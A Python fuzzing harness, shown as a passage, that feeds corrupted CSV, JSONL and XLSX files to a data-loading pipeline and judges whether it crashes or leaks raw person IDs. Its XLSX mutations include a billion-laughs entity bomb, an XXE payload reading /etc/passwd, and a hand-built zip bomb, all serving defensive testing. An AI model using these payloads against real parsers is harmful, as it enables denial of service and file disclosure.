    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    parts[sheet] = parts[sheet].replace(b"</sheetData>", far, 1)
    return f"xlsx_far_cell {sheet}", "same"


_ROW_NUMBER = re.compile(rb'<row r="(\d+)"')


def _row_numbers(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    """Rows numbered out of order or twice (openpyxl's own iterator would silently drop such rows)."""
    sheet = _data_sheet(parts, rng)
    numbers = _ROW_NUMBER.findall(parts[sheet])
    if len(numbers) < 3:
        return "xlsx_row_numbers (skipped)", "same"
    i = rng.randrange(1, len(numbers))
    new = numbers[i - 1] if rng.random() < 0.5 else b"1"
    count = [0]

    def renumber(match: re.Match[bytes]) -> bytes:
        count[0] += 1
        return b'<row r="' + new + b'"' if count[0] == i + 1 else match.group(0)

    parts[sheet] = _ROW_NUMBER.sub(renumber, parts[sheet])
    return f"xlsx_row_numbers row {numbers[i].decode()}→{new.decode()} in {sheet}", "same"


def _bad_cell(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    """A cell whose type and value disagree (shared-string index out of range, text typed as a number...)."""
    sheet = _data_sheet(parts, rng)
    cells = list(re.finditer(rb"<c r=\"[A-Z]+([3-9]|\d\d+)\"[^>]*?(/>|>.*?</c>)", parts[sheet]))
    if not cells:
        return "xlsx_bad_cell (skipped)", "same"
    cell = rng.choice(cells)
    ref = re.search(rb'r="([A-Z]+\d+)"', cell.group(0)).group(1)  # type: ignore[union-attr]
    body = rng.choice([b't="s"><v>999999</v>', b't="s"><v>abc</v>', b't="n"><v>abc</v>',
                       b't="d"><v>notadate</v>',
                       b't="b"><v>7</v>', b't="e"><v>#REF!</v>', b't="str"><v>1095010001</v>',
                       b't="n" s="1"><v>1e308</v>', b't="inlineStr"><is><t>\xe0\xb8\x81</t></is>',
                       b't="s"><v>-1</v>', b't="n"><v>1101700203450</v>', b'><v>' + b"9" * 400 + b"</v>"])
    parts[sheet] = parts[sheet].replace(cell.group(0), b'<c r="' + ref + b'" ' + body + b"</c>", 1)
    return f"xlsx_bad_cell {ref.decode()} {body[:20]!r}", "same"


def _break_shared_strings(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    name = "xl/sharedStrings.xml"
    if name not in parts:
        return _corrupt_xml(parts, rng)
    kind = rng.choice(["remove", "truncate", "empty", "fewer"])
    if kind == "remove":
        del parts[name]
    elif kind == "truncate":
        parts[name] = parts[name][: rng.randint(0, len(parts[name]))]
    elif kind == "empty":
        parts[name] = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    else:
        parts[name] = re.sub(rb"<si>.*?</si>", b"", parts[name], count=3)
    return f"xlsx_shared_strings_{kind}", "same"


def _corrupt_xml(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    name = rng.choice(sorted(parts))
    content = parts[name]
    kind = rng.choice(["truncate", "garble", "control_char_ref", "drop_member", "undefined_entity"])
    if kind == "truncate":
        parts[name] = content[: rng.randint(0, len(content))]
    elif kind == "garble":
        at = rng.randint(0, len(content))
        parts[name] = content[:at] + rng.choice([b"<", b"&", b"</x>", b"\x00", b"\xff"]) + content[at:]
    elif kind == "control_char_ref":
        parts[name] = content.replace(b"<t>", b"<t>&#1;", 1).replace(b"<v>", b"<v>&#27;", 1)
    elif kind == "undefined_entity":
        parts[name] = content.replace(b"<t>", b"<t>&nbsp;", 1)
    else:
        del parts[name]
    return f"xlsx_{kind} {name}", "same"


_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
           + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10)
                      for i in range(8)) + b"]>")
_EXTERNAL = (b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd">'
             b'<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd">]>')


def _entity_attack(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    """Billion laughs and external entities (XXE) in a worksheet or the shared strings."""
    name = rng.choice([n for n in parts if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"])
    content = re.sub(rb"^<\?xml[^>]*\?>", b"", parts[name])
    if rng.random() < 0.5:
        parts[name] = _LAUGHS + content.replace(b"<t>", b"<t>&i;", 1)
        return f"xlsx_billion_laughs {name}", "same"
    parts[name] = _EXTERNAL + content.replace(b"<t>", b"<t>&secret;", 1)
    return f"xlsx_external_entity {name}", "same"


def _sheet_list(parts: dict[str, bytes], rng: random.Random) -> tuple[str, str]:
    """A sheet renamed, emptied, or removed from the workbook (the contract's sheet then missing)."""
    book = parts.get("xl/workbook.xml", b"")
    kind = rng.choice(["rename", "empty_sheet", "no_sheets", "header_lower"])
    if kind == "rename":
        names = re.findall(rb'<sheet [^>]*name="([^"]*)"', book)
        if names:
            old = rng.choice(names)
            parts["xl/workbook.xml"] = book.replace(b'name="' + old + b'"', b'name="' + old + b' (2)"', 1)
    elif kind == "empty_sheet":
        sheet = _data_sheet(parts, rng)
        parts[sheet] = re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData/>", parts[sheet], flags=re.S)
    elif kind == "no_sheets":
        parts["xl/workbook.xml"] = re.sub(rb"<sheet [^>]*/>", b"", book)
    else:  # the header row pushed down below the rows the reader searches
        sheet = _data_sheet(parts, rng)
        shifted = _ROW_NUMBER.sub(lambda m: b'<row r="' + str(int(m.group(1)) + 6).encode() + b'"',
                                  parts[sheet])
        parts[sheet] = re.sub(rb'<c r="([A-Z]+)(\d+)"',
                              lambda m: b'<c r="' + m.group(1) + str(int(m.group(2)) + 6).encode() + b'"',
                              shifted)
        parts[sheet] = re.sub(rb'<dimension ref="[^"]*"\s*/>', b"", parts[sheet])
    return f"xlsx_sheet_{kind}", "same"


@cache
def bomb_member(mebibytes: int) -> tuple[bytes, int]:
    """(raw deflate stream, CRC-32) of `mebibytes` MiB of zero bytes: a real, valid zip-bomb member.

    After a full flush deflate keeps no history, so every 1 MiB chunk compresses to the same ~1 KB block:
    the stream is that block repeated, built in milliseconds whatever size it inflates to.
    """
    chunk = bytes(2**20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(chunk, crc)
    return block * mebibytes + compressor.flush(), crc


@dataclass(frozen=True)
class RawMember:
    name: str
    deflated: bytes
    crc: int
    declared_size: int
    """Uncompressed size the zip directory claims (a lying bomb claims more than it holds)."""


def add_raw_members(data: bytes, extra: Sequence[RawMember]) -> bytes:
    """The zip with more deflated members written by hand (no ZIP64: each member below 4 GiB)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    head = _zip(members)
    directory_at = struct.unpack("<I", head[-6:-2])[0]
    entries = struct.unpack("<H", head[-12:-10])[0]
    body, directory = head[:directory_at], head[directory_at:-22]
    for member in extra:
        name = member.name.encode()
        sizes = (member.crc, len(member.deflated), member.declared_size, len(name))
        central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, *sizes, 0, 0, 0, 0, 0,
                              len(body)) + name
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, *sizes, 0) + name + member.deflated
        directory += central
        entries += 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(directory), len(body), 0)
    return body + directory + end


def _zip_bomb(sample: Sample, rng: random.Random) -> Sample:
    """A member that inflates far beyond any workbook: really (64 MiB of zeros, ~1000:1) or by its declared
    size (4 GiB claimed in the directory, the classic overlapping or lying bomb)."""
    if _members(sample.data) is None:
        return sample.then("zip_bomb (skipped: not a zip)", sample.data)
    kind = rng.choice(["real_ratio", "declared_size", "many_members"])
    deflated, crc = bomb_member(64)
    if kind == "many_members":  # each member modest, together far beyond a workbook
        extra = [RawMember(f"xl/media/image{i}.png", deflated, crc, 64 * 2**20) for i in range(12)]
    else:
        declared = 0xFFFF_FFF0 if kind == "declared_size" else 64 * 2**20
        extra = [RawMember("xl/media/image1.png", deflated, crc, declared)]
    return sample.then(f"zip_bomb_{kind}", add_raw_members(sample.data, extra))


def _zip_directory(sample: Sample, rng: random.Random) -> Sample:
    """Zip-level damage: encryption flag, unknown compression method, too many members, not a zip at all."""
    data = bytearray(sample.data)
    kind = rng.choice(["encrypted", "method", "many_members", "ole", "text", "truncate_directory"])
    if kind in ("encrypted", "method"):
        for signature, flag_at, method_at in ((b"PK\x01\x02", 8, 10), (b"PK\x03\x04", 6, 8)):
            for match in re.finditer(re.escape(signature), bytes(data)):
                if kind == "encrypted":
                    data[match.start() + flag_at] |= 1
                else:
                    data[match.start() + method_at] = rng.choice([1, 6, 12, 14, 93, 99])
        return sample.then(f"zip_{kind}", bytes(data))
    if kind == "many_members":
        members = _members(sample.data) or []
        extra = [(f"customXml/item{i}.xml", b"<a/>") for i in range(10_001)]
        return sample.then("zip_many_members", _zip(members + extra, level=1))
    if kind == "ole":
        return sample.then("zip_ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(data[:2000]))
    if kind == "text":
        return sample.then("zip_text", "เลขประจำตัวประชาชน,ชื่อ\r\n".encode("cp874"))
    return sample.then("zip_truncate_directory", bytes(data[:-rng.randint(1, 60)]))


def _mutate_workbook_cells(sample: Sample, rng: random.Random, name: str, change: CellChange) -> Sample:
    """Change data cells through openpyxl (values as Excel would hold them; formulas stay formulas)."""
    import openpyxl

    try:
        workbook = openpyxl.load_workbook(io.BytesIO(sample.data))
    except Exception:  # already damaged by an earlier step
        return sample.then(f"{name} (skipped: workbook unreadable)", sample.data)
    sheets = [ws for ws in workbook.worksheets if ws.max_row >= 2]
    if not sheets:
        return sample.then(f"{name} (skipped: no data)", sample.data)
    carried: list[str] = []
    touched = []
    for _ in range(rng.randint(1, 3)):
        sheet = rng.choice(sheets)
        first_data = 3 if sample.seed.source.header_groups else 2
        if sheet.max_row < first_data:
            continue
        cell = sheet.cell(rng.randint(first_data, sheet.max_row), rng.randint(1, sheet.max_column))
        new, ids = change(_as_text(cell.value), rng)
        cell.value = _XML_ILLEGAL.sub("", new)  # openpyxl refuses characters XML cannot hold
        carried.extend(ids)
        touched.append(f"{sheet.title}!{cell.coordinate}")
    saved = _saved(workbook)
    if saved is None:
        return sample.then(f"{name} (skipped: workbook cannot be saved)", sample.data)
    return sample.then(f"{name} {','.join(touched)}", saved, raw_ids=carried)


def _saved(workbook: object) -> bytes | None:
    """The workbook's bytes, or None when openpyxl cannot write what an earlier step left in it."""
    out = io.BytesIO()
    try:
        workbook.save(out)  # type: ignore[attr-defined]
    except (ValueError, TypeError, OverflowError, KeyError):
        return None
    return normalised_zip(out.getvalue())


def _typed_cells(sample: Sample, rng: random.Random) -> Sample:
    """Real Excel types in data cells: dates (CE, BE-typed, extreme), numbers, booleans, times."""
    import openpyxl

    try:
        workbook = openpyxl.load_workbook(io.BytesIO(sample.data))
    except Exception:
        return sample.then("xlsx_typed_cells (skipped)", sample.data)
    values = [dt.datetime(2012, 3, 14), dt.datetime(2555, 3, 14), dt.date(1, 1, 1), dt.datetime(9999, 12, 31),
              dt.datetime(2566, 2, 28, 13, 30), dt.time(12, 0), 1.5, 0, -1, 10**15, True, False, 1095010001,
              1101700203450.0, dt.timedelta(days=3)]
    sheet = rng.choice([ws for ws in workbook.worksheets if ws.max_row >= 3] or workbook.worksheets)
    first_data = 3 if sample.seed.source.header_groups else 2
    touched = []
    carried: list[str] = []
    for _ in range(rng.randint(1, 4)):
        if sheet.max_row < first_data:
            break
        cell = sheet.cell(rng.randint(first_data, sheet.max_row), rng.randint(1, sheet.max_column))
        cell.value = rng.choice(values)
        if cell.value == 1101700203450.0:
            carried.append("1101700203450")
        touched.append(cell.coordinate)
    saved = _saved(workbook)
    if saved is None:
        return sample.then("xlsx_typed_cells (skipped: workbook cannot be saved)", sample.data)
    return sample.then(f"xlsx_typed_cells {','.join(touched)}", saved, raw_ids=carried)


# --- the registry ---------------------------------------------------------------------------------------

MUTATIONS: dict[str, tuple[frozenset[str], Mutation]] = {
    **{name: (ALL_FORMATS, _cell_mutation(name, change)) for name, change in CELL_CHANGES.items()},
    "shuffle_columns": (TEXT_FORMATS, _table_mutation(_shuffle_columns)),
    "rename_header": (TEXT_FORMATS, _table_mutation(_rename_header)),
    "duplicate_column": (TEXT_FORMATS, _table_mutation(_duplicate_column)),
    "drop_column": (TEXT_FORMATS, _table_mutation(_drop_column)),
    "swap_data_columns": (TEXT_FORMATS, _table_mutation(_swap_data_columns)),
    "duplicate_row": (TEXT_FORMATS, _table_mutation(_duplicate_row)),
    "delete_row": (TEXT_FORMATS, _table_mutation(_delete_row)),
    "header_only": (TEXT_FORMATS, _table_mutation(_header_only)),
    "repeat_header": (CSV_FORMATS, _table_mutation(_repeat_header)),
    "short_row": (CSV_FORMATS, _table_mutation(_short_row)),
    "extra_fields": (CSV_FORMATS, _table_mutation(_extra_fields)),
    "json_value_types": (frozenset({"jsonl"}), _table_mutation(_json_value_types)),
    "json_structure": (frozenset({"jsonl"}), _json_structure),
    "line_ends": (TEXT_FORMATS, _line_ends),
    "delimiter": (CSV_FORMATS, _delimiter),
    "blank_lines": (TEXT_FORMATS, _blank_lines),
    "truncate": (ALL_FORMATS, _truncate),
    "nul_bytes": (TEXT_FORMATS, _nul_bytes),
    "bom_in_middle": (TEXT_FORMATS, _bom_in_middle),
    "reencode": (TEXT_FORMATS, _reencode),
    "invalid_bytes": (TEXT_FORMATS, _invalid_bytes),
    "byte_flips": (ALL_FORMATS, _byte_flips),
    "chunk_splice": (ALL_FORMATS, _chunk_splice),
    "long_line": (TEXT_FORMATS, _long_line),
    "unbalanced_quote": (CSV_FORMATS, _unbalanced_quote),
    "empty": (ALL_FORMATS, _empty),
    "xlsx_huge_dimension": (XLSX, _xml_mutation(_huge_dimension)),
    "xlsx_far_cell": (XLSX, _xml_mutation(_far_cell)),
    "xlsx_row_numbers": (XLSX, _xml_mutation(_row_numbers)),
    "xlsx_bad_cell": (XLSX, _xml_mutation(_bad_cell)),
    "xlsx_shared_strings": (XLSX, _xml_mutation(_break_shared_strings)),
    "xlsx_corrupt_xml": (XLSX, _xml_mutation(_corrupt_xml)),
    "xlsx_entities": (XLSX, _xml_mutation(_entity_attack)),
    "xlsx_sheets": (XLSX, _xml_mutation(_sheet_list)),
    "xlsx_zip_bomb": (XLSX, _zip_bomb),
    "xlsx_zip_directory": (XLSX, _zip_directory),
    "xlsx_typed_cells": (XLSX, _typed_cells),
}


def mutations_for(source: SourceFile) -> list[str]:
    return [name for name, (formats, _) in MUTATIONS.items() if source.format in formats]


# ---------------------------------------------------------------------------------------------------------
# Running a case and judging it
# ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    case: int
    seed: str
    steps: tuple[str, ...]
    verdict: str
    """'loaded', 'refused', 'crash' (another exception) or 'violation' (an oracle rule broken)."""
    detail: str
    seconds: float


def make_case(seeds: Sequence[Seed], campaign: int, case: int) -> Sample:
    """Case `case` of campaign `campaign`: a seed and one mutation, sometimes a second one on top."""
    rng = random.Random(f"{campaign}:{case}")
    seed = seeds[rng.randrange(len(seeds))]
    sample = Sample(seed, seed.data, records=seed.records, raw_ids=seed.raw_ids)
    names = mutations_for(seed.source)
    for _ in range(1 if rng.random() < 0.8 else 2):
        name = rng.choice(names)
        sample = MUTATIONS[name][1](sample, rng)
    return sample


def run_case(sample: Sample, landing: Path) -> AdapterResult | BaseException:
    """Deliver the sample into <landing>/<province>/<year>/ and read it as the pipeline would."""
    source = sample.seed.source
    path = landing / source.province / str(YEAR) / sample.seed.file_name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(sample.data)
    try:
        return read_delivery(source, path, province=source.province, academic_year=YEAR,
                             pseudonymiser=pseudonymiser())
    except Exception as err:  # judged by the oracle: a DeliveryError passes, anything else is a crash
        return err


def id_forms(raw_ids: Sequence[str]) -> list[str]:
    """Every way a raw ID could show up: as delivered, in Thai digits."""
    forms = {r for r in raw_ids if r}
    forms |= {r.translate(THAI_DIGITS) for r in forms}
    return sorted(forms)


def judge(sample: Sample, outcome: AdapterResult | BaseException) -> tuple[str, str]:
    """(verdict, detail) for one case, by the rules in the module docstring."""
    if isinstance(outcome, DeliveryError):
        return _judge_refusal(sample, outcome)
    if isinstance(outcome, BaseException):
        tail = "".join(traceback.format_exception(outcome)[-3:])
        return "crash", f"{type(outcome).__name__}: {str(outcome)[:300]}\n{tail[-1500:]}"
    try:
        _check_loaded(sample, outcome)
    except AssertionError as err:
        return "violation", f"{str(err)[:600]}"
    return "loaded", f"{outcome.rows_read} read, {len(outcome.rows)} loaded, {len(outcome.rejects)} rejected"


def _judge_refusal(sample: Sample, err: DeliveryError) -> tuple[str, str]:
    message = str(err)
    if sample.seed.file_name not in message:
        return "violation", f"refusal does not name the file: {message[:300]}"
    if len(err.problem.strip()) < 8:
        return "violation", f"refusal without a clear problem: {message[:300]}"
    leaked = [raw for raw in id_forms(sample.raw_ids) if raw in message]
    if leaked:
        return "violation", f"refusal quotes a raw person ID: {message[:300]}"
    return "refused", err.problem[:200]


def _check_loaded(sample: Sample, result: AdapterResult) -> None:
    check_result(result, raw_ids=id_forms(sample.raw_ids))
    reasons = result.rejects["reason"]
    assert (reasons.str.strip().str.len() > 0).all(), "a reject without a reason"
    leaked = [raw for raw in id_forms(sample.raw_ids) if reasons.str.contains(raw, regex=False).any()]
    assert not leaked, f"a reject reason quotes a raw person ID {leaked[:1]}"
    assert result.source_file == sample.seed.file_name
    assert result.source_sha256 == hashlib.sha256(sample.data).hexdigest()
    if sample.seed.source.format != "xlsx":  # XLSX rows repeat numbers across sheets
        numbers = [*result.rows["source_row"].tolist(), *result.rejects["source_row"].tolist()]
        assert len(numbers) == len(set(numbers)), "a source row loaded or rejected twice"
    if sample.records is not None:
        accounted = result.rows_read + _documented_exclusions(result)
        assert accounted == sample.records, (
            f"records lost: {sample.records} delivered, {result.rows_read} read + "
            f"{_documented_exclusions(result)} excluded by rule")


_EXCLUSION_NOTES = (
    re.compile(r"^(\d+) subtotal rows checked"),
    re.compile(r"^(\d+) rows of other provinces out of scope"),
    re.compile(r"^(\d+) rows with a blank \w+: province unknown"),
)


def _documented_exclusions(result: AdapterResult) -> int:
    """Rows the contract leaves out of rows_read by rule (EMIS subtotals, national rows out of scope)."""
    return sum(int(m.group(1)) for note in result.notes for p in _EXCLUSION_NOTES if (m := p.match(note)))


# ---------------------------------------------------------------------------------------------------------
# Campaigns
# ---------------------------------------------------------------------------------------------------------


@dataclass
class Summary:
    cases: int = 0
    verdicts: Counter[str] = field(default_factory=Counter)
    by_mutation: Counter[str] = field(default_factory=Counter)
    findings: list[Outcome] = field(default_factory=list)
    slowest: Outcome | None = None
    seconds: float = 0.0

    def line(self) -> str:
        slow = f"{self.slowest.seconds:.2f} s (case {self.slowest.case})" if self.slowest else "-"
        return (f"fuzz: {self.cases} cases in {self.seconds:.1f} s: {self.verdicts['loaded']} loaded, "
                f"{self.verdicts['refused']} refused with a message, {self.verdicts['crash']} crashes, "
                f"{self.verdicts['violation']} oracle violations; {len(self.by_mutation)} mutations used; "
                f"slowest case {slow}")


def run_campaign(seeds: Sequence[Seed], landing: Path, *, campaign: int, cases: int,
                 first_case: int = 0) -> Summary:
    summary = Summary()
    started = time.perf_counter()
    for case in range(first_case, first_case + cases):
        sample = make_case(seeds, campaign, case)
        begun = time.perf_counter()
        outcome = run_case(sample, landing)
        verdict, detail = judge(sample, outcome)
        record = Outcome(case, sample.seed.label, sample.steps, verdict, detail, time.perf_counter() - begun)
        summary.cases += 1
        summary.verdicts[verdict] += 1
        summary.by_mutation.update(step.split(" ")[0] for step in sample.steps)
        if verdict in ("crash", "violation"):
            summary.findings.append(record)
        if summary.slowest is None or record.seconds > summary.slowest.seconds:
            summary.slowest = record
    summary.seconds = time.perf_counter() - started
    return summary


def describe(findings: Sequence[Outcome], limit: int = 10) -> str:
    return "\n".join(f"case {o.case} [{o.seed}] {' + '.join(o.steps)} → {o.verdict}: {o.detail}"
                     for o in findings[:limit])


_WORKER_SEEDS: list[Seed] = []
_WORKER_LANDING: list[Path] = []


def _start_worker(workdir: str) -> None:
    """Each worker process builds the (deterministic, identical) seeds once, in its own folder."""
    import os
    import warnings

    warnings.simplefilter("ignore")  # openpyxl's warnings about the damage we made on purpose
    root = Path(workdir) / f"worker-{os.getpid()}"
    _WORKER_SEEDS[:] = build_seeds(root / "seeds")
    _WORKER_LANDING[:] = [root / "landing"]


def _run_chunk(task: tuple[int, int, int]) -> Summary:
    campaign, first, count = task
    return run_campaign(_WORKER_SEEDS, _WORKER_LANDING[0], campaign=campaign, cases=count, first_case=first)


def merge(parts: Sequence[Summary], seconds: float) -> Summary:
    total = Summary(seconds=seconds)
    for part in parts:
        total.cases += part.cases
        total.verdicts.update(part.verdicts)
        total.by_mutation.update(part.by_mutation)
        total.findings.extend(part.findings)
        if part.slowest and (total.slowest is None or part.slowest.seconds > total.slowest.seconds):
            total.slowest = part.slowest
    total.findings.sort(key=lambda o: o.case)
    return total


def run_parallel(workdir: Path, *, campaign: int, cases: int, workers: int, chunk: int = 250) -> Summary:
    """The same cases as run_campaign(campaign, cases), spread over worker processes in chunks."""
    import multiprocessing
    from concurrent.futures import ProcessPoolExecutor

    started = time.perf_counter()
    tasks = [(campaign, first, min(chunk, cases - first)) for first in range(0, cases, chunk)]
    context = multiprocessing.get_context("spawn")  # a clean interpreter: no state forked from pytest
    with ProcessPoolExecutor(workers, mp_context=context, initializer=_start_worker,
                             initargs=(str(workdir),)) as pool:
        parts = list(pool.map(_run_chunk, tasks))
    return merge(parts, time.perf_counter() - started)
